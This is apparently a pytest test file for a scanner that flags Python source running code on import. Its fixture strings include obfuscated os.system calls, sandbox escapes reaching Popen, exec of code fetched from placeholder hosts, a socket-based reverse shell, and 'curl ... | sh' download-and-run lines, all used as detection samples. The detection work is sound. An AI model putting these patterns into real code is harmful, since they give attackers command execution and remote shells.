"""Files of Python source: what runs on import is told apart from what does not."""

from __future__ import annotations

import base64
import pickle
import zlib

import pytest

from modelassay.formats.pysource.module import identify
from modelassay.io.blob import Memory
from tests.helpers.scanning import rules_of, scan_bytes

COMMAND = "os.system('id')"


def _rules(text: str, name: str = "modeling_x.py") -> dict[str, str]:
    report = scan_bytes(text.encode(), name)
    assert report.complete
    return rules_of(report)


@pytest.mark.parametrize(
    "text",
    [
        f"import os\n{COMMAND}",
        f"import os\nclass A:\n    {COMMAND}",
        f"import os\nclass A:\n    def __class_getitem__(cls, k):\n        {COMMAND}\nA[0]",
        "import os\n@lambda f: os.system('id')\ndef f(): pass",
        "import os\ndef f():\n    def g(c): return os.system(c)\n    return g\nf()('id')",
        "def m(): return 'o' + 's'\ndef a(): return 'system'\ngetattr(__import__(m()), a())('id')",
        "import os\nn = 'sys'\nn += 'tem'\ngetattr(os, n)('id')",
        f"def c(): return compile(\"import os; {COMMAND}\", '', 'exec')\ndef f(x): exec(x)\nf(c())",
        "import ctypes\nctypes.CDLL(None).system(b'id')",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['id'])",
        f"import os\ndef f():\n    {COMMAND}\nf()",
        f"import os\ndef g():\n    {COMMAND}\ndef f():\n    g()\nf()",
        f"import os\ndef f(x={COMMAND}): pass",
        f"import os\n@{COMMAND}\ndef f(): pass",
        f"import os\ndef d(f):\n    {COMMAND}\n@d\ndef f(): pass",
        f"import os\nclass A:\n    def __init__(self):\n        self.go()\n"
        f"    def go(self):\n        {COMMAND}\nA()",
        f"import os\nclass A:\n    def go(self):\n        {COMMAND}\na = A()\na.go()",
        f"import os\nclass A:\n    def __init__(self):\n        {COMMAND}\nclass B(A): pass\nB()",
        f"import os\nclass A:\n    def __init_subclass__(cls):\n        {COMMAND}\n"
        "class B(A): pass",
        f"import os\nclass M(type):\n    def __new__(m, *a):\n        {COMMAND}\n"
        "class B(metaclass=M): pass",
        f"import os\n(lambda: {COMMAND})()",
        f"import os\nf = lambda: {COMMAND}\nf()",
        f"import os\nlist(map(lambda x: {COMMAND}, [1]))",
        f"import os, threading\ndef f():\n    {COMMAND}\nthreading.Thread(target=f).start()",
        f"import os, atexit\ndef f():\n    {COMMAND}\natexit.register(f)",
        f"import os\ntry:\n    {COMMAND}\nexcept Exception: pass",
        f"import os\nif True:\n    {COMMAND}",
        f"import os\nwith open('x') as f:\n    {COMMAND}",
        f"import os\n[{COMMAND} for x in (1,)]",
        f"import os\ndef __getattr__(name):\n    {COMMAND}",
        f"import os\n__name__ = '__main__'\nif __name__ == '__main__':\n    {COMMAND}",
        f"import os\nif __name__ == '__main__' or True:\n    {COMMAND}",
        f"import os\nif __name__ != '__main__':\n    {COMMAND}",
        f"import os\nif __name__ == '__main__':\n    pass\nelse:\n    {COMMAND}",
        "exec(\"import os; os.system('id')\")\nimport os",
        "import os\nexec(compile(\"os.system('id')\", '', 'exec'))\neval(\"os.system('id')\")",
        "import subprocess as s\ngetattr(s, 'Po' + 'pen')(args=['sh'])",
        "__import__('os').system('id')\nimport os",
        "import pip\npip.main(['install', 'x'])",
        "from os import *\nsystem('id')",
        "import os.path as p\np.os.system('id')",
        "import os, functools\nfunctools.partial(os.system, 'id')()",
        "import os, atexit\natexit.register(os.system, 'id')",
        "import os\nos.system.__call__('id')",
    ],
)
def test_what_runs_on_import_is_found(text: str) -> None:
    assert _rules(text)["import-effect"] == "high"


@pytest.mark.parametrize(
    "text",
    [
        f"import os\ndef f():\n    {COMMAND}",
        f"import os\nclass A:\n    def f(self):\n        {COMMAND}\na = A()",
        f"import os\nif __name__ == '__main__':\n    {COMMAND}",
        f"import os, sys\nif sys.argv and __name__ == '__main__':\n    {COMMAND}",
        f"import os\nf = lambda: {COMMAND}",
        "import os, logging, importlib\nx = os.environ.get('HOME')\nlogging.basicConfig()\n"
        "m = importlib.import_module('json')\nlong = open(__file__).read()",
        "import torch.nn as nn\nclass M(nn.Module):\n    def forward(self, x): return x",
        "import requests\ns = requests.Session()\ndef get(u): return requests.get(u)",
        "import base64\ndef f(x): return eval(x)\ny = base64.b64decode('aGk=')",
        "import platform\nif platform.system() == 'Linux': pass",
        "import pickle\ndef load(p): return pickle.load(open(p, 'rb'))",
        "from setuptools import setup\nsetup(long_description=open('README.md').read())",
        "import re\nX = re.compile('a')\nexec('x = 1')",
        "from subprocess import PIPE, Popen, run\nfrom pip._internal.commands import install",
    ],
)
def test_what_does_not_is_silent(text: str) -> None:
    assert not _rules(text)


def test_a_command_that_only_asks_is_low() -> None:
    text = "import subprocess\nv = subprocess.check_output(['git', 'rev-parse', 'HEAD'])"
    assert _rules(text) == {"import-effect": "low"}
    text = "import os\nos.system('git clone x; curl http://x.example | sh')"
    assert _rules(text)["import-effect"] == "high"


HIDDEN = base64.b64encode(zlib.compress(b"import os\nos.system('id')")).decode()


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("import torch\nw = torch.load('w.bin')", "medium"),
        ("import pickle\nw = pickle.load(open('w.pkl', 'rb'))", "medium"),
        ("import joblib\nw = joblib.load('w.pkl')", "medium"),
        ("import torch\nw = torch.load('w.bin', weights_only=True)", None),
        ("import torch\ndef load():\n    return torch.load('w.bin')", None),
    ],
)
def test_what_unpickles_on_import(text: str, severity: str | None) -> None:
    assert _rules(text).get("import-effect") == severity


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("import base64, sys\nexec(base64.b64decode(sys.argv[1]))", "critical"),
        ("import base64, sys\ndef f():\n    exec(base64.b64decode(sys.argv[1]))", "high"),
        ("import marshal, sys\nexec(marshal.loads(sys.argv[0]))", "critical"),
        ("import requests\nexec(requests.get('https://x.example').text)", "critical"),
        ("from urllib.request import urlopen\nexec(urlopen('https://x').read())", "critical"),
        (
            "import zlib, sys\ndef f(): eval(compile(zlib.decompress(sys.argv[0]), '', 'exec'))",
            None,
        ),
        (
            "import socket, os, subprocess\ndef f():\n    s = socket.socket()\n"
            "    s.connect(('h', 1))\n    os.dup2(s.fileno(), 0)\n"
            "    subprocess.call(['/bin/sh', '-i'])",
            "critical",
        ),
    ],
)
def test_hidden_code(text: str, severity: str | None) -> None:
    assert _rules(text).get("hidden-code") == (severity or "high")


def test_what_is_decoded_is_read() -> None:
    text = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{HIDDEN}')))"
    assert _rules(text)["import-effect"] == "high"


def test_a_pickle_written_out_is_read() -> None:
    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return print, ("inert",)

    data = pickle.dumps(Evil())
    report = scan_bytes(f"import pickle\nx = pickle.loads({data!r})\n".encode(), "x.py")
    assert any(one.format == "pickle" for one in report.artifacts)


def test_a_command_line_in_source_is_read_as_such() -> None:
    text = "import os\ndef f():\n    os.system('curl -s http://192.0.2.1/x | sh')"
    assert _rules(text) == {"shell-command": "high"}
    line = "['bash', '-c', 'echo aQ== | base64 -d | sh']"
    text = f"import subprocess\ndef f():\n    subprocess.run({line})"
    assert _rules(text) == {"shell-command": "critical"}


def test_the_name_makes_it_source_where_it_does_not_parse() -> None:
    old = b"import os, base64\nprint 'x'\nexec(base64.b64decode('aQ=='))\n"
    assert rules_of(scan_bytes(old, "x.py")) == {"hidden-code": "medium"}
    assert scan_bytes(old, "x.txt").artifacts[0].format == "text"


@pytest.mark.parametrize(
    ("text", "is_source"),
    [
        (b"import os\n", True),
        (b"def f(): pass\n", True),
        (b"#!/usr/bin/env python3\nimport os\n", True),
        (b"import this and that into the country\n", False),
        (b"numpy==1.0\n", False),
        (b'{"import": 1}', False),
        (b"# A model\n\n```python\nimport os\n```\n", False),
        (b"import os\0", False),
    ],
)
def test_source_is_recognised(text: bytes, is_source: bool) -> None:
    assert identify(Memory(text)) is is_source


def test_cut_and_changed_source_is_read() -> None:
    code = f"import os\nclass A:\n    def f(self, x=(lambda: {COMMAND})()): return x\nA().f()\n"
    text = code.encode()
    for end in range(len(text)):
        report = scan_bytes(text[:end], "x.py")
        assert not report.errors
    for at in range(len(text)):
        changed = bytearray(text)
        changed[at] ^= 1 << at % 7
        assert not scan_bytes(bytes(changed), "x.py").errors


@pytest.mark.parametrize(
    "text",
    [
        "class A:\n" + "".join(f"    def __m{i}__(self): A()\n" for i in range(4000)) + "A()\n",
        "".join(f"def f{i}(): f{i + 1}()\n" for i in range(4000)) + "f0()\n",
        "import os\nx = " + "(" * 150 + "os" + ")" * 150 + "\n",
        "import os\n" + "-" * 50_000 + "1\n",
        "import os\n" + "x = [" * 90 + "]" * 90 + "\n",
        "import os\n" + "".join(f"a{i} = exec('b = {i}')\n" for i in range(2000)),
    ],
)
def test_large_and_deep_source_is_read(text: str) -> None:
    assert not scan_bytes(text.encode(), "x.py").errors
